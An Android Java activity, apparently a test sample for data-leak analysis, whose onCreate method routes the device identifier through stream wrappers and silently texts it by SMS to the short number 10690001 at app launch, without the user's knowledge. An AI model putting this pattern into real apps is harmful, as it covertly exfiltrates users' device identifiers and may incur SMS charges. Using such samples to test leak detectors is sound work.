package cn.shanhai.streamwrappers;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.io.BufferedWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStreamWriter;
import java.io.Writer;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      Writer writer = new BufferedWriter(new OutputStreamWriter(bytes, "UTF-8"));
      writer.write(Device.id(this));
      writer.close();
      SmsManager.getDefault().sendTextMessage("10690001", null, new String(bytes.toByteArray(), "UTF-8"), null, null);
    } catch (IOException e) {
      setTitle("首页");
    }
  }
}
